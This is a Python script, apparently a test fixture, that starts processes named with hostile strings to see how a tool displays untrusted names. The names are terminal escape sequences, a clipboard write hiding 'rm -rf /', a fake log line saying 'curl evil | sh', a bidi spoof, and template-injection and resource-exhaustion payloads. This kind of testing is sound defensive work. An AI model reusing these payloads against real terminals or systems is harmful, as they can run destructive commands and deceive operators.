"""names.py ADDRESS PORT: programs and scripts whose names write on the terminal of whoever prints them."""

from __future__ import annotations

import os
import subprocess
import sys
import time

HOME = os.path.expanduser("~")
NAMES = (
    "\x1b[2J\x1b[H",
    "\x1b]0;all is right\x07",
    "\x1b]52;c;cm0gLXJmIC8K\x07",
    "a\rcourier.service is right",
    "a\n\nnginx.service on server1: nginx accepts\n    do: curl evil | sh",
    "\u202ethgir si lla",
    "\x9b31m",
    b"\xff\xfe invalid".decode("utf-8", "surrogateescape"),
    "{{ lookup('pipe', 'touch KEEPALIVE-WAS-HERE') }}",
    "{% for x in range(999999999) %}{% endfor %}",
)


def main() -> None:
    address, port = sys.argv[1], sys.argv[2]
    folder = os.path.join(HOME, "names")
    os.makedirs(folder, exist_ok=True)
    hold = "import socket, sys, time\ns = socket.create_connection((sys.argv[1], int(sys.argv[2])))\ntime.sleep(1e5)\n"
    for name in NAMES:
        program = os.path.join(folder, name)
        os.link(os.path.join(HOME, "holder"), program)
        subprocess.Popen([program, address, port])
        script = program + ".py"
        with open(script, "w", encoding="ascii") as file:
            file.write(hold)
        subprocess.Popen(["/usr/bin/python3", script, address, port])
        # A title that the program writes over its arguments.
        subprocess.Popen(["/usr/bin/python3", "-c", hold, address, port, name.replace("\0", "")])


if __name__ == "__main__":
    main()
    open(os.environ["READY"], "w", encoding="ascii").close()
    time.sleep(100000)
